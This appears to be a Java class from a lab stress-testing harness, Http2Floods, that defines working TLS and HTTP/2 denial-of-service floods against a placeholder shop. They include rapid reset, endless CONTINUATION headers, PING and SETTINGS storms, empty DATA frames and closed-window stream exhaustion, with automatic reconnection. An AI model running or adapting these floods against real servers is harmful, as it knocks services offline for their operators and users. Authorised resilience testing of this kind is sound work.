package dev.semel.attack;

import dev.semel.attack.lab.Http2;
import dev.semel.attack.lab.Profile;
import java.io.IOException;
import java.net.Socket;
import java.util.List;

/** Floods of TLS and of HTTP/2. */
final class Http2Floods {

    private static final byte[] CANCEL = {0, 0, 0, 8};
    private static final byte[] NO_WINDOW = {0, 4, 0, 0, 0, 0};

    private Http2Floods() {}

    static List<Attack> all() {
        Listing list = new Listing(Group.EXHAUSTION).on(Profile.TLS);
        list.flood("half-open-tls", "400 handshakes that stop half-way", 8, (target, held) -> {
            for (int i = 0; i < 50 && !held.isOver(); i++) {
                Socket socket = held.keep(target.plain());
                socket.getOutputStream().write(new byte[] {22, 3, 1, 2, 0, 1, 0, 1, (byte) 252, 3, 3});
                socket.getOutputStream().flush();
            }
            held.rest();
        });
        list.flood(
                "h2-rapid-reset",
                "1,040 streams a second that are reset immediately",
                4,
                reconnecting((connection, held) -> {
                    for (int i = 0; i < 13; i++) {
                        int stream = connection.request(Http2.END_STREAM, get("/search"));
                        connection.frame(Http2.RST_STREAM, 0, stream, CANCEL);
                    }
                    connection.flush();
                    Thread.sleep(50);
                }));
        list.flood("h2-endless-header", "headers that never end", 4, reconnecting((connection, held) -> {
            int stream = connection.nextStream();
            connection.frame(Http2.HEADERS, Http2.END_STREAM, stream, Http2.block(get("/search")));
            byte[] more = Http2.block("x-a", "b".repeat(4_000));
            for (int i = 0; i < 1_000 && !held.isOver(); i++) {
                connection.frame(Http2.CONTINUATION, 0, stream, more).flush();
                Thread.sleep(5);
            }
        }));
        list.flood("h2-pings", "pings and settings, 20,000 a second", 4, reconnecting((connection, held) -> {
            for (int i = 0; i < 125; i++) {
                connection.frame(Http2.PING, 0, 0, new byte[8]);
                connection.frame(Http2.SETTINGS, 0, 0, new byte[0]);
            }
            connection.flush();
            Thread.sleep(50);
        }));
        list.flood("h2-empty-frames", "data frames without data", 4, reconnecting((connection, held) -> {
            int stream = connection.request(0, get("/search"));
            for (int i = 0; i < 200 && !held.isOver(); i++) {
                for (int j = 0; j < 50; j++) {
                    connection.frame(Http2.DATA, 0, stream, new byte[0]);
                }
                connection.flush();
                Thread.sleep(20);
            }
        }));
        list.flood("h2-poisoned-paths", "120 paths with a space a second", 4, reconnecting((connection, held) -> {
            connection.request(Http2.END_STREAM, get("/search x"));
            connection.flush();
            Thread.sleep(33);
        }));
        list.flood("h2-closed-window", "400 streams of 8 MB whose window is closed", 4, (target, held) -> {
            Http2 connection = held.keep(target.connectHttp2());
            connection.frame(Http2.SETTINGS, 0, 0, NO_WINDOW);
            for (int i = 0; i < 100; i++) {
                connection.request(Http2.END_STREAM, get("/search/big"));
            }
            connection.flush();
            held.rest();
        });
        list.flood("h2-event-streams", "400 event streams on four connections", 4, (target, held) -> {
            Http2 connection = held.keep(target.connectHttp2());
            for (int i = 0; i < 100; i++) {
                connection.request(Http2.END_STREAM, get("/search/events"));
            }
            connection.flush();
            held.rest();
        });
        return list.all();
    }

    /** Does this again and again, on a new connection whenever one was closed. */
    private static Flood.Stream reconnecting(Burst burst) {
        return (target, held) -> {
            while (!held.isOver()) {
                Http2 connection = held.keep(target.connectHttp2());
                try {
                    while (!held.isOver()) {
                        burst.send(connection, held);
                    }
                } catch (IOException cut) {
                    // Handshakes cost both sides the same; they are not what this is about.
                    Thread.sleep(300);
                }
            }
        };
    }

    private interface Burst {

        void send(Http2 connection, HeldConnections held) throws IOException, InterruptedException;
    }

    private static String[] get(String path) {
        return new String[] {":method", "GET", ":scheme", "https", ":authority", "shop.example", ":path", path};
    }
}
